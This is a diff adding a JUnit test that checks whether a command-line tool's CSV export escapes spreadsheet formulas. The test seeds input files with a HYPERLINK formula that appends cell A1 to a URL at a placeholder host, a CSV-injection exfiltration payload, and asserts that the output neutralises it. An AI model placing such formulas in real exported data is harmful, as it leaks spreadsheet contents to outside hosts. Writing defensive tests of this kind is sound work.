@@ -285,6 +285,25 @@ class HearthCommandTest {
     }
 
     @Test
+    @DisplayName("--format csv writes an id that a spreadsheet would run as a formula with an apostrophe in front")
+    void csvOutputIsSafeToOpenInASpreadsheet() throws IOException {
+        Path hostile = copyOf(data, "hostile");
+        String formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")";
+        for (String file : List.of("families.csv", "memberships.csv")) {
+            Path path = hostile.resolve(file);
+            Files.writeString(path, Files.readString(path).replace("F000001,", "\"" + formula.replace("\"", "\"\"") + "\","));
+        }
+
+        Path out = work.resolve("hostile.csv");
+        Run run = run("evaluate", "--plan", "southwark", "--data", hostile.toString(), "--as-of", AS_OF, "--format", "csv",
+                "--out", out.toString());
+
+        assertThat(run.code).as(run.err).isZero();
+        assertThat(Files.readString(out)).contains("\n\"'" + formula.replace("\"", "\"\"") + "\",")
+                .doesNotContain("\n\"=HYPERLINK").doesNotContain("\n=");
+    }
+
+    @Test
     @DisplayName("the demo summarises every plan per problem and says how to read a family's explanation")
     void demo() {
         Path out = work.resolve("demo");
